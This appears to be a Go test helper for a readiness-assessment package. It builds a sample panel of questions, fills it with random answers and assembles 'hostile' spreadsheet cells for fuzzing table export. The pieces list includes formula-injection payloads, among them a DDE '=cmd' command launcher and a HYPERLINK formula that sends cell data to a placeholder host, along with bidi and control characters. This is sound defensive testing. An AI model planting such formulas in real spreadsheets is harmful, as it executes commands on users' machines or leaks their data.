package tables

import (
	"fmt"
	"math/rand/v2"

	"readiness/assess"
)

// testPanel is a panel for a role with so many requirements, each on a claim, a certificate that is asked about only
// after the better claim, and an exercise.
func testPanel(requirements int) *assess.Panel {
	points := func(ids ...string) (options []assess.Option) {
		for i, id := range ids {
			options = append(options, assess.Option{ID: id, Say: "I am at " + id, Points: i})
		}
		return options
	}
	var section assess.Section
	role := &assess.Role{ID: "clerk", Bands: []assess.Band{{Name: "Building", Essentials: assess.AtLeastAny}, {Name: "Ready", From: 100, Essentials: assess.AtLeastMet}}}
	for i := range requirements {
		claim, stated, done := fmt.Sprintf("claim-%d", i), fmt.Sprintf("stated-%d", i), fmt.Sprintf("done-%d", i)
		section.Questions = append(section.Questions,
			assess.Question{ID: claim, Ask: "How well?", Kind: assess.One, Evidence: assess.Claimed, Options: points("poor", "good", "best"), MayNotApply: "I have none"},
			assess.Question{ID: stated, Ask: "How\nmany?", Kind: assess.Number, Evidence: assess.Documented, Unit: "marks", Max: 9, Levels: []assess.Level{{From: 0}, {From: 5, Points: 1}}, OnlyIf: []assess.Condition{{Question: claim, Is: []string{"good", "best"}}}},
			assess.Question{ID: done, Ask: "Type this", Kind: assess.Typing, Evidence: assess.Measured, Levels: []assess.Level{{From: 0}, {From: 40, Points: 1}}},
		)
		role.Requirements = append(role.Requirements, assess.Requirement{ID: claim, Name: fmt.Sprintf("Skill %d", i), Kind: assess.Essential, Weight: 1 + i, Target: 80, Partly: 40,
			Parts: []assess.Part{{Name: "All", Questions: []string{claim, stated, done}}}})
	}
	section.Questions = append(section.Questions,
		assess.Question{ID: "tools", Ask: "Which?", Kind: assess.Many, Evidence: assess.Claimed, Options: append(points("word", "mail"), assess.Option{ID: "none", Say: "None", Alone: true})},
		assess.Question{ID: "tasks", Ask: "Do these", Kind: assess.Tasks, Evidence: assess.Measured, Draw: [assess.Difficulties]int{1, 2, 1}},
		assess.Question{ID: "story", Ask: "Tell us", Kind: assess.Text})
	if requirements > 0 {
		role.Requirements[0].Kind = assess.Desirable
		role.Requirements[0].Parts = append(role.Requirements[0].Parts, assess.Part{Name: "Tools", Questions: []string{"tools", "tasks"}})
	}
	return assess.NewPanel(role, assess.NewQuestionnaire(assess.Questionnaire{ID: "clerk", Sections: []assess.Section{section}}))
}

// someAnswers gives random answers to the questions of a panel.
func someAnswers(r *rand.Rand, p *assess.Panel) []assess.Told {
	var answers []assess.Told
	states := []assess.AnswerState{assess.Skipped, assess.PreferNotToSay, assess.NotCollected}
	for _, q := range p.Questionnaire.Questions() {
		a := assess.Answer{State: assess.Answered, Given: true}
		switch {
		case r.IntN(3) == 0 && q.Exercise():
			a.State = assess.NotTaken
		case r.IntN(3) == 0 && !q.Exercise():
			a.State = states[r.IntN(len(states))]
		case r.IntN(9) == 0 && q.MayNotApply != "":
			a.State = assess.NotApplicable
		case len(q.Options) > 0:
			a.Options = []int{r.IntN(len(q.Options))}
		case q.Kind == assess.Number:
			a.Number = r.IntN(q.Max + 1)
		case q.Kind == assess.Text:
			a.Text = "=1"
		default:
			a.Number = r.IntN(5) * 20
		}
		answers = append(answers, q.Tell(&a))
	}
	return answers
}

// pieces are what hostile cells are put together from.
var pieces = []string{
	"=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", "\r\n", "'", "''", `"`, `""`, ",", ";", "|", " ", "\u00a0", "\u200b", "\ufeff",
	"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid?\"&A1,\"x\")", "@SUM(1)", "+1", "-2+3", "sep=;", "-", "−", "{=1}", "%0A=1", "=", "' =1",
	"\x00", "\x1b[31m", "\x1b]8;;x\a", "\x9b", "\xff", "\xc3", "\xed\xa0\x80", "\u0085", "\u202e", "\u2066", "\u200e", "\u061c", "\u2028", "\ufffe", "\ufffd", "\U000e0041", "\u00ad", "\u0600",
	"]]>", "<f>1</f>", "&amp;", "<!--", "_x0041_", "_x005F_", "_xD800_", "TRUE", "1E5", "007", "3,5", "2026-01-01", "#N/A", "نص", "e\u0301", "क्\u200dष", "👩\u200d⚕️", "𝄞", "O'Brien", "Siân",
}

// hostile gives a random hostile cell; one of some thousands has 32,000 characters and more.
func hostile(r *rand.Rand) string {
	cell := ""
	for range r.IntN(6) {
		cell += pieces[r.IntN(len(pieces))]
		if r.IntN(4) == 0 {
			cell += fmt.Sprint(r.IntN(100))
		}
	}
	if r.IntN(4000) == 0 && cell != "" {
		for len(cell) < 33_000 {
			cell += cell
		}
	}
	return cell
}
